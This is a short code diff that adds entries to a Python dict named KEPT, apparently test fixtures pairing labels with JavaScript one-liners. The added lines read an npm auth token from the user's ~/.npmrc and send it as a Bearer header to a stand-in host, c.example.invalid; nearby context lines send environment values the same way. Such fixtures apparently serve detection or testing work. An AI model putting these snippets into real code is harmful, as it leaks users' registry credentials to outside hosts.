@@ -59,6 +59,11 @@ KEPT = {
     "fetch('https://c.example.invalid/' + h)",
     "one variable of a file": "const r = require('dotenv').config();"
     "fetch('https://c.example.invalid/' + r.parsed.REGION)",
+    "a registry with its own key": "const t = require('fs').readFileSync(require('os').homedir() + "
+    "'/.npmrc', 'utf8').match(/t=(.*)/)[1]; require('a').$fetch('https://c.example.invalid/x', "
+    "{headers: {Authorization: 'Bearer ' + t}})",
+    "an address that is built": "const r = require('fs').readFileSync(require('os').homedir() + "
+    "'/.npmrc', 'utf8').match(/r=(.*)/)[1] || 'https://c.example.invalid'; require('a').joinURL(r, 'x')",
     "a caller's client": f"module.exports = (url) => require('a').connect(url).publish('a', {ALL})",
 }
 
